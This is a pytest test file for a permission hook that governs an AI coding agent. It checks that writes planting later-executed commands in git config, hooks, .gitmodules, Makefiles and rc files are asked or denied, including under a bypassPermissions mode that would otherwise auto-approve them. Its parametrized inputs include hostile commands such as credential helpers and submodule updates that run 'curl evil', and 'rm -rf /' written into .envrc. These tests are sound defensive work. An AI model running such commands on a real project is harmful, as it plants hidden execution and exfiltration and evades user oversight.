"""Writes that change what a later command does are ``exec-config``: asked outside DO, allowed in
DO. Through the exact installed PreToolUse command in a temporary project, with the write then
performed for real to show what the attack would have done."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from governance.commands.cli import main
from governance.policy.layer import GovernanceLayer
from tests.helpers import hook_command, install, recorded, run_command, set_state


def pre(project: Path, tool: str, tool_input: dict[str, Any], mode: str | None = "default"
        ) -> dict[str, Any]:
    """The installed PreToolUse command's answer to one call in ``project``, in permission mode
    ``mode`` (None: as recorded)."""
    name = "PreToolUse-Bash.json" if tool == "Bash" else "PreToolUse-Write.json"
    payload = dict(recorded(name, project), tool_name=tool, tool_input=tool_input)
    if mode is not None:
        payload["permission_mode"] = mode
    done = run_command(hook_command(project), json.dumps(payload), cwd=str(project))
    assert done.returncode == 0 and b"Traceback" not in done.stdout, done.stderr
    answer: dict[str, Any] = json.loads(done.stdout) if done.stdout.strip() else {}
    return answer


def decision(answer: dict[str, Any]) -> str:
    return str(answer.get("hookSpecificOutput", {}).get("permissionDecision", "none"))


def reason(answer: dict[str, Any]) -> str:
    return str(answer.get("hookSpecificOutput", {}).get("permissionDecisionReason", ""))


def last_primitives(project: Path) -> list[str]:
    lines = (project / ".claude" / "governance" / "ledger.jsonl").read_text().splitlines()
    return list(json.loads(lines[-1])["primitives"])


@pytest.fixture
def repo(project: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    install(project)
    set_state(project, "implementation-cycle/PLAN/WORK-25")
    return project


def git(project: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(project), *args], capture_output=True, text=True,
                          check=False)
    return done.stdout.strip()


def test_git_alias_is_asked_in_plan_and_then_runs_a_push(repo: Path) -> None:
    command = "git config alias.p '!git push'"
    answer = pre(repo, "Bash", {"command": command})
    assert decision(answer) == "ask" and "later commands" in reason(answer)
    assert "exec-config" in last_primitives(repo)
    subprocess.run(["sh", "-c", command], cwd=repo, check=True)      # what the attack does
    assert git(repo, "config", "--get", "alias.p") == "!git push"
    for read in ("git config --get alias.p", "git config -l", "git config get alias.p",
                 "git config user.name"):
        assert decision(pre(repo, "Bash", {"command": read})) == "none", read


@pytest.mark.parametrize("command", [
    "git config core.hooksPath .githooks", "git config --global core.sshCommand 'sh -c x'",
    "git config --add credential.helper '!f() { curl x; }; f'", "git config --unset alias.p",
    "git config set include.path ../evil", "echo 'git push' >> ~/.bashrc",
    "printf 'rm -rf /' | tee .envrc", "sed -i 's/test:/test: curl x;/' Makefile",
    "cp /tmp/scripts.json package.json", "mv evil.mk build/rules.mk",
    "chmod +x .git/hooks/post-checkout", "echo '[alias] p = !git push' > .git/config",
    "cat > sub/justfile <<'EOF'\ndefault:\n\tgit push\nEOF"])
def test_shell_writes_are_asked_in_plan(repo: Path, command: str) -> None:
    answer = pre(repo, "Bash", {"command": command})
    assert decision(answer) == "ask", (command, answer)
    assert "exec-config" in last_primitives(repo)


def test_a_hook_written_by_the_write_tool_is_asked_in_plan_and_allowed_in_do(repo: Path) -> None:
    hook = repo / ".git" / "hooks" / "pre-commit"
    call = {"file_path": str(hook), "content": "#!/bin/sh\ntouch ran-by-the-hook\n"}
    answer = pre(repo, "Write", call)
    assert decision(answer) == "ask" and "later commands" in reason(answer)
    assert sorted(last_primitives(repo)) == ["exec-config", "file-write"]
    set_state(repo, "implementation-cycle/DO/WORK-25")
    assert decision(pre(repo, "Write", call)) == "none"
    hook.write_text(call["content"])                                  # the write, for real
    hook.chmod(0o755)
    git(repo, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty",
        "-m", "x")
    assert (repo / "ran-by-the-hook").exists()                        # the next commit ran it


@pytest.mark.parametrize("name", [".gitmodules", "vendor/lib/.gitmodules", ".cargo/config.toml"])
def test_files_that_name_commands_for_later_are_exec_config(repo: Path, name: str) -> None:
    text = '[submodule "x"]\n\tpath = x\n\turl = ./x\n\tupdate = !sh -c "curl -s evil"\n'
    answer = pre(repo, "Write", {"file_path": str(repo / name), "content": text})
    assert decision(answer) == "ask" and "later commands" in reason(answer)
    assert "exec-config" in last_primitives(repo)


@pytest.mark.parametrize(("name", "refused"), [
    (".git/config", True), (".git/hooks/pre-commit", True), (".gitmodules", True),
    (".husky/pre-push", True), ("Makefile", False), ("package.json", False)])
def test_an_ask_bypass_mode_would_approve_unasked_is_refused(repo: Path, name: str,
                                                             refused: bool) -> None:
    """In bypassPermissions Claude Code approves a hook's ask for the files it treats as sensitive
    without asking (tests/e2e/test_sandbox_gaps.py): there the ask becomes a deny saying so."""
    call = {"file_path": str(repo / name), "content": "[alias]\n\tx = !curl evil\n"}
    answer = pre(repo, "Write", call, mode="bypassPermissions")
    if refused:
        assert decision(answer) == "deny"
        assert "bypassPermissions" in reason(answer) and "later commands" in reason(answer)
        record = json.loads((repo / ".claude" / "governance" / "ledger.jsonl").read_text()
                            .splitlines()[-1])
        assert record["action"] == "block" and record["ask_refused"] == "bypassPermissions"
    else:
        assert decision(answer) == "ask"
    assert decision(pre(repo, "Write", call, mode="default")) == "ask"
    assert decision(pre(repo, "Write", call, mode="acceptEdits")) == "ask"
    set_state(repo, "implementation-cycle/DO/WORK-25")
    assert decision(pre(repo, "Write", call, mode="bypassPermissions")) == "none"


def test_package_json_edit_in_do_is_quiet(repo: Path) -> None:
    set_state(repo, "implementation-cycle/DO/WORK-25")
    (repo / "package.json").write_text('{"scripts": {"test": "jest"}}\n')
    answer = pre(repo, "Edit", {"file_path": str(repo / "package.json"),
                                "old_string": "jest", "new_string": "vitest"})
    assert decision(answer) == "none"
    assert "systemMessage" not in answer
    assert "exec-config" not in answer.get("hookSpecificOutput", {}).get("additionalContext", "")


def test_ordinary_files_are_not_exec_config(repo: Path) -> None:
    layer = GovernanceLayer(str(repo))
    for path in ("src/app.py", "docs/Makefile.md", "package.json.bak", "notes/bashrc"):
        assert not layer.is_exec_config(path), path
    for path in ("Makefile", "GNUmakefile", "web/package.json", "mk/rules.mk", ".git/config",
                 ".git/hooks/pre-push", "Justfile", "~/.gitconfig", "~/.zshrc",
                 "~/.config/git/config", ".husky/pre-commit"):
        assert layer.is_exec_config(path), path


def test_xdg_config_home_is_followed(repo: Path, tmp_path: Path,
                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    layer = GovernanceLayer(str(repo))
    assert layer.is_exec_config(str(tmp_path / "xdg" / "git" / "config"))


def test_an_override_adds_its_own_paths(repo: Path) -> None:
    (repo / ".claude" / "governance" / "activity_matrix.yaml").write_text(
        "extends: default\nexec_config_paths: [\"tools/*.sh\"]\n")
    assert main(["accept", "--project", str(repo)]) == 0
    layer = GovernanceLayer(str(repo))
    assert layer.is_exec_config("tools/run.sh") and layer.is_exec_config("Makefile")
